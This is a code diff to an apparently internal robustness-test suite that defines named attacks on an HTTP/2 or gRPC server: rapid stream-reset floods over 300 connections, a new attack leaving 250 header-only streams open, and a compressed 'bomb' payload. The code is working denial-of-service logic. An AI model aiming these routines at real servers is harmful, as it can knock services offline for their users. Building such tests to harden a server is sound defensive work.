@@ -216,13 +216,8 @@ export const attacks: Record<string, Attack> = {
     });
   },
 
-  'resets over connections': inRounds(async ({ host, port, localAddress }) => {
-    const sockets = await Promise.all(Array.from({ length: 300 }, () => openRaw(host, port, localAddress)));
-    const burst = resetCalls(60);
-    for (const socket of sockets) socket.write(burst);
-    await sleep(400);
-    for (const socket of sockets) socket.destroy();
-  }, 5),
+  'resets over connections': overConnections(resetCalls(60)),
+  'streams left open over connections': overConnections(openedCalls(250)),
 
   'bytes one by one': async ({ host, port, localAddress }) => {
     const sockets = await Promise.all(Array.from({ length: 50 }, () => openRaw(host, port, localAddress)));
@@ -251,7 +246,7 @@ function bomb(): Buffer {
   return framed(Buffer.concat([begin, ...Array<Buffer>(1024).fill(zeros), end]), { compressed: true });
 }
 
-function resetCalls(count: number): Buffer {
+export function resetCalls(count: number): Buffer {
   const frames = Array.from({ length: count }, (_, at) => {
     const stream = at * 2 + 1;
     return Buffer.concat([
@@ -261,6 +256,22 @@ function resetCalls(count: number): Buffer {
     ]);
   });
   return Buffer.concat(frames);
+}
+
+/** Calls of which nothing comes but their headers. */
+function openedCalls(count: number): Buffer {
+  return Buffer.concat(Array.from({ length: count }, (_, at) => headersFrame(at * 2 + 1, SAVE)));
+}
+
+/** Opens 300 connections, sends the same over each, and leaves them; in rounds. */
+export function overConnections(burst: Buffer): Attack {
+  return inRounds(async ({ host, port, localAddress, isTls }) => {
+    const opening = Array.from({ length: 300 }, () => openRaw(host, port, localAddress, { isTls }));
+    const sockets = await Promise.all(opening);
+    for (const socket of sockets) socket.write(burst);
+    await sleep(400);
+    for (const socket of sockets) socket.destroy();
+  }, 5);
 }
 
 /** A field of a protobuf message, whatever its type is. */
